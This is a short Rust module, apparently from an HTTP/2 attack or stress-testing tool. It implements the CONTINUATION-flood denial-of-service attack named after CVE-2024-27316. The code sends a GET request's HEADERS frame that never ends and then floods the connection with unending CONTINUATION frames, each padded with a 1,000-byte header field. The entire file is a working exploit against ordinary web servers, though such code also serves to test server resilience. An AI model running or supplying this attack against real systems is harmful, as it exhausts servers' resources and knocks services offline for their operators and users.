//! HTTP/2 header blocks without an end (CVE-2024-27316 and others).

use super::super::attacker::Attacker;
use super::super::ends::Ends;
use super::super::frames::{CONTINUATION, END_STREAM, HEADERS, field, frame, request};
use super::super::http2::Connection;

/// Begins a header and continues it.
pub(super) async fn attack(attacker: &Attacker) -> Ends {
    attacker
        .with_each(|attacker, stream| async move {
            let mut connection = Connection::begin(attacker, stream, &[]).await;
            connection.send(&frame(HEADERS, END_STREAM, 1, request("GET", "/system/health"))).await;
            let more = frame(CONTINUATION, 0, 1, field("x", &"y".repeat(1_000)));
            connection.flood(|_| more.clone()).await
        })
        .await
}
